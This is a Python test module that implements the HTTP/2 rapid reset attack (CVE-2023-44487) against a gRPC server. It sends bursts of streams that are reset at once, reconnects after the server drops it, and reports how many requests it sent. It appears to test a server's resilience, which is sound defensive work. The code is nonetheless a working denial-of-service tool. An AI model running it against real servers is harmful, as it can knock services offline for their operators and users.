"""Opens calls and takes each back at once (HTTP/2 rapid reset, CVE-2023-44487), as a workload taken over could.

`python -m tests.promises.resetting <address> <name> <authority> <identity> <path> <count>` says when
it begins, and in the end how many it sent over how many connections.
"""

import socket
import ssl
import sys
from collections.abc import Iterator
from contextlib import contextmanager, suppress

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.exceptions import ProtocolError

_AT_ONCE = 200
_EMPTY_MESSAGE = bytes(5)


class Attack:
    """One connection after the other, as servers close them."""

    def __init__(self, address: str, name: str, context: ssl.SSLContext, path: str) -> None:
        self._address = address.rpartition(":")
        self._name = name
        self._context = context
        self._headers = [
            (":method", "POST"), (":scheme", "https"), (":path", path), (":authority", name), ("te", "trailers"),
            ("content-type", "application/grpc"), ("grpc-timeout", "5S"),
        ]  # fmt: skip
        self.sent = 0
        self.connections = 0

    def run(self, count: int) -> None:
        while self.sent < count:
            self.connections += 1
            # A server that has had enough closes, and the next connection goes on.
            with suppress(OSError, ProtocolError), self._connected() as (wire, http):
                while self.sent < count:
                    self._burst(wire, http)

    def _burst(self, wire: ssl.SSLSocket, http: H2Connection) -> None:
        for number in range(_AT_ONCE):
            stream = http.get_next_available_stream_id()
            http.send_headers(stream, self._headers)
            if number % 2:
                # Whole, so that it comes as far as a handler.
                http.send_data(stream, _EMPTY_MESSAGE, end_stream=True)
            http.reset_stream(stream, ErrorCodes.CANCEL)
        wire.sendall(http.data_to_send())
        if not self.sent:
            print("begun", flush=True)
        self.sent += _AT_ONCE
        for heard in _waiting(wire):
            http.receive_data(heard)

    @contextmanager
    def _connected(self) -> Iterator[tuple[ssl.SSLSocket, H2Connection]]:
        host, _, port = self._address
        plain = socket.create_connection((host, int(port)), 10)
        with plain, self._context.wrap_socket(plain, server_hostname=self._name) as wire:
            http = H2Connection(H2Configuration(client_side=True))
            http.initiate_connection()
            wire.sendall(http.data_to_send())
            http.receive_data(wire.recv(65_536))
            yield wire, http


def _waiting(wire: ssl.SSLSocket) -> Iterator[bytes]:
    """What has come in, without waiting for more."""
    wire.settimeout(0)
    try:
        while heard := wire.recv(65_536):
            yield heard
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        wire.settimeout(10)


def main(address: str, name: str, authority: str, identity: str, path: str, count: str) -> None:
    context = ssl.create_default_context(cafile=authority)
    context.load_cert_chain(identity)
    context.set_alpn_protocols(["h2"])
    attack = Attack(address, name, context, path)
    attack.run(int(count))
    print(attack.sent, attack.connections)


if __name__ == "__main__":
    main(*sys.argv[1:])
